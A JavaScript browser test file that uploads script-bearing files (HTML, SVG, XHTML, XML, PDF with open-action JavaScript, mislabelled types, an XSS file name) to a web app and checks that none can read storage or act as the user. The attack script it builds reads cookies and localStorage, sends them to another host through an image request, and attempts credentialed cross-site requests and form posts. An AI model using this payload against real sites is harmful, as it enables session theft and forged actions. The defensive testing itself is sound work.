/**
 * Files with a script in them, opened in every way that the app offers and by addresses that somebody types: the script
 * tries to read what the pages keep and to call the API as the user, and does neither. That it would succeed on a page of
 * the app itself is shown first, so that its failure elsewhere says something.
 */

import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import { after, before, test } from 'node:test'
import { stage } from './browser.mjs'

const CANARY = 'kept by the pages alone'

/** What a script tries: to make a project as the user, to read what is kept, and to tell somebody else of it. */
const attack = (name, elsewhere) => `
  try { document.documentElement.dataset.ran = '1' } catch (e) {}
  var told = []
  for (var read of ["document.cookie", "JSON.stringify(localStorage)", "JSON.stringify(sessionStorage)", "parent.document.title",
    "JSON.stringify(parent.localStorage)", "opener.document.title"]) {
    try { told.push(read + '=' + eval(read)) } catch (e) {}
  }
  try { new Image().src = ${JSON.stringify(elsewhere)} + '/?' + encodeURIComponent(told.join(';')) } catch (e) {}
  for (var host of [${JSON.stringify(elsewhere)} + '/told', location.origin === 'null' ? location.href.split('/').slice(0, 3).join('/') : location.origin, 'WEB']) {
    for (var headers of [{ 'Content-Type': 'application/json', 'X-Coffer': '1' }, { 'Content-Type': 'text/plain' }]) {
      try { fetch(host + '/api/projects.create', { method: 'POST', credentials: 'include', headers: headers,
        body: JSON.stringify({ name: ${JSON.stringify(name)} }) }).catch(function () {}) } catch (e) {}
    }
    try { fetch(host + '/api/auth.create_credentials', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' }).catch(function () {}) } catch (e) {}
    try {
      var form = document.createElement('form')
      form.method = 'POST'; form.enctype = 'text/plain'; form.action = host + '/api/projects.create'
      var field = document.createElement('input')
      field.name = '{"name": ' + ${JSON.stringify(JSON.stringify(name))} + ', "description": "'; field.value = '"}'
      form.append(field); document.documentElement.append(form); form.target = '_blank'; form.submit()
    } catch (e) {}
  }
`

/** A document of PDF that asks its reader to run a script when it is opened. */
const pdf = (script) => `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replaceAll(/[\\()]/g, '\\$&').replaceAll('\n', ' ')})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
trailer<</Root 1 0 R>>
%%EOF`

const page = (script) => `<!doctype html><title>a report</title><body><h1>A report</h1><script>${script}</script>`
const drawing = (script) => `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" height="40" fill="teal"/><script>${script.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></svg>`
const xml = (script) => `<?xml version="1.0"?><data><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</x:script></data>`

/** Each file: its name, the type it claims, and its content. */
const files = [
  ['report.html', 'text/html', page],
  ['report.xhtml', 'application/xhtml+xml', (s) => `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n${s}\n//]]></script></body></html>`],
  ['drawing.svg', 'image/svg+xml', drawing],
  ['code.js', 'text/javascript', (s) => s],
  ['data.xml', 'text/xml', xml],
  ['paper.pdf', 'application/pdf', pdf],
  // What a file is called, or claims to be, is not what it is.
  ['numbers.npy', 'text/html', page],
  ['notes.txt', 'text/html', page],
  ['picture.png', 'image/svg+xml', drawing],
  ['<img src=x onerror=alert(1)>.html', 'text/html', page],
]

let on, window, elsewhere, task
const heard = [] // what came to the other host
before(async () => {
  on = await stage(null)
  window = await on.open()
  elsewhere = createServer((request, reply) => {
    heard.push(decodeURIComponent(request.url))
    reply.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' }).end()
  })
  await new Promise((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  const host = `http://127.0.0.1:${elsewhere.address().port}`
  await window.page.evaluate((canary) => localStorage.setItem('canary', canary), CANARY)
  task = (await window.api('tasks.create', { name: 'with scripts', type: 'training', project: (await window.api('projects.create', { name: 'scripts' })).id })).id
  const named = files.map(([name, type, content]) => [name, type, content(attack(`stolen by ${name}`, host).replaceAll('WEB', on.server.web))])
  await window.page.evaluate(store, [task, on.server.web, named])
})
after(async () => {
  elsewhere?.close()
  await on?.end()
})

/** Stores the files as the page's user, and registers each as an artifact. */
async function store([task, web, named]) {
  const artifacts = []
  for (const [name, type, text] of named) {
    const form = new FormData()
    form.append(`hostile/${name}`, new Blob([text], { type }), name)
    const sent = await fetch('/files/', { method: 'POST', headers: { 'X-Coffer': '1' }, body: form })
    if (!sent.ok) throw new Error(`${name}: ${sent.status} ${await sent.text()}`)
    const bytes = new TextEncoder().encode(text)
    const hash = [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((b) => b.toString(16).padStart(2, '0')).join('')
    artifacts.push({
      key: name, type: 'custom', mode: 'output', uri: `${web}/files/hostile/${encodeURIComponent(name)}`, hash, content_size: bytes.length,
      timestamp: 1_700_000_000, type_data: { content_type: type, preview: text.slice(0, 100) },
    })
  }
  const got = await fetch('/api/tasks.add_or_update_artifacts', {
    method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Coffer': '1' }, body: JSON.stringify({ task, artifacts }),
  })
  if (!got.ok) throw new Error(await got.text())
}

const stolen = async () => (await window.api('projects.get_all', { name: '^stolen by', search_hidden: true })).projects.map((p) => p.name)
const keys = async () => (await window.api('auth.get_credentials')).credentials.length

/** Opens an address as somebody does who types it. What is a file to save is saved, and shows no page. */
async function type(page, address) {
  await page.goto(address, { waitUntil: 'networkidle' }).catch((e) => {
    if (!/Download is starting|ERR_ABORTED/.test(e.message)) throw e
  })
}

test('on a page of the app the script does act for the user, so its failure elsewhere says something', async () => {
  await window.go('/tasks')
  await window.page.evaluate(async () => {
    await fetch('/api/projects.create', {
      method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'X-Coffer': '1' }, body: JSON.stringify({ name: 'stolen by the app' }),
    })
  })
  assert.deepEqual(await stolen(), ['stolen by the app'])
  assert.equal(await window.page.evaluate(() => localStorage.getItem('canary')), CANARY)
  assert.equal(await window.page.evaluate(() => document.cookie), '') // the session is out of reach of every script
  const { projects } = await window.api('projects.get_all', { name: '^stolen by', search_hidden: true })
  await window.api('projects.delete', { project: projects[0].id })
})

for (const [name] of files) {
  test(`${name} neither reads what the pages keep nor acts for the user`, async () => {
    const before = await keys()
    heard.length = 0
    const { page } = window
    const popups = []
    page.context().on('page', (p) => popups.push(p))
    await window.go('/tasks')
    const a = await page.evaluate(async (at) => (await fetch(at)).json(), `/api/tasks/${task}/artifact?${new URLSearchParams({ key: name, mode: 'output' })}`)
    assert.equal(a.state, 'stored')

    // As the app shows it.
    await window.go(`/tasks/${task}/artifacts?${new URLSearchParams({ key: name })}`)
    await page.getByRole('heading', { name, exact: true }).waitFor()
    await page.getByRole('button', { name: 'The text that was logged with it' }).waitFor()
    await page.waitForLoadState('networkidle')
    const show = page.getByRole('button', { name: 'Show the page' })
    if (await show.count()) {
      await show.click()
      await page.frameLocator('iframe').locator('html').waitFor()
      assert.equal(await page.frameLocator('iframe').locator('[data-ran]').count(), 0)
      await page.getByRole('button', { name: 'Run its scripts' }).click()
      await page.frameLocator('iframe').locator('[data-ran]').waitFor() // it ran, and got nowhere
      await page.waitForLoadState('networkidle')
    }
    for (const as of ['hex', 'logged']) {
      await window.go(`/tasks/${task}/artifacts?${new URLSearchParams({ key: name, as })}`)
      await page.getByRole('heading', { name, exact: true }).waitFor()
      await page.waitForLoadState('networkidle')
    }
    assert.equal(await page.locator('html[data-ran]').count(), 0)

    // By each address of its bytes, on each port.
    const path = `/hostile/${encodeURIComponent(name)}`
    const preview = `${on.server.web}/api/preview/${a.sha256}`
    for (const address of [
      `${on.server.web}/files${path}`, `${on.server.web}/files${path}?version=1`, `${on.server.web}/files${path}?digest=${a.sha256}`, `${on.server.files}${path}`,
      preview, `${preview}/bytes`, `${preview}/bytes?download`, `${preview}/image`, `${preview}/html`, `${preview}/html?scripts=1`,
    ]) {
      await type(page, address)
      // A page of its own has no origin; where there is none, the browser stays where it was. JSON runs nothing.
      if (page.url() === address && (await page.evaluate(() => document.contentType)) !== 'application/json') {
        assert.equal(await page.evaluate(() => origin), 'null', address)
        assert.equal(await page.evaluate(() => { try { return localStorage.length } catch { return 'refused' } }), 'refused', address)
      }
    }
    // By the link of the app, in a window that has an opener.
    await window.go(`/tasks/${task}/artifacts?${new URLSearchParams({ key: name })}`)
    const link = page.getByRole('link', { name: 'Download', exact: true })
    const saved = page.waitForEvent('download')
    await link.click()
    const download = await saved
    assert.equal(await download.failure(), null)
    await page.evaluate((href) => void open(href), await link.getAttribute('href'))
    await page.waitForLoadState('networkidle')
    for (const p of popups) await p.close().catch(() => undefined)

    await window.go('/tasks')
    assert.deepEqual(await stolen(), [])
    assert.equal(await keys(), before)
    assert.deepEqual(heard, []) // nothing was told to anybody
    assert.equal(await page.evaluate(() => localStorage.getItem('canary')), CANARY)
  })
}
